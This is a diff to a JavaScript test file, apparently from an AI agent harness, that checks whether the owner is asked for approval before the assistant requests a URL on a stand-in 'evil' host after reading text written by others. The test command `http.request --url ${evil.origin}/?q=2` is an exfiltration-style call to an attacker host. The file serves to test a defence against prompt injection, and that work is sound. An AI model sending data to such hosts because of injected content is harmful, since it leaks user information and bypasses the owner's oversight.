@@ -217,7 +217,17 @@ describe('what its owner is asked', () => {
 
   test('is one question for each host, told beneath the answer; a yes holds from then on', async () => {
     const another = () => cmd(`http.request --url ${evil.origin}/?q=2`);
-    await open([read, composed, another, { text: 'No.' }, read, another, { text: 'Yes.' }]);
+    const goesOn = [another, { text: 'On.' }];
+    await open([
+      read,
+      composed,
+      another,
+      { text: 'No.' },
+      ...goesOn,
+      read,
+      another,
+      { text: 'Yes.' },
+    ]);
     await say();
     const [request, ...others] = await openRequests();
     expect(others).toEqual([]);
@@ -226,9 +236,11 @@ describe('what its owner is asked', () => {
       `and 1 more like it: it had read what others wrote and put this address together`,
     );
     expect(await lastWords()).toContain(`rote requests answer ${request?.id} yes`);
-    await house.opened.requests.answer(request?.id ?? '', 'yes');
+    const { id } = await house.opened.requests.answer(request?.id ?? '', 'yes');
+    await house.ended(`run_${id.slice('req_'.length)}`);
+    expect(await lastWords()).toBe('assistant: On.');
     await say();
-    expect(arrived).toEqual(['GET /?q=2']);
+    expect(arrived).toEqual(['GET /?q=2', 'GET /?q=2']);
     expect(await lastWords()).toBe('assistant: Yes.');
   });
 
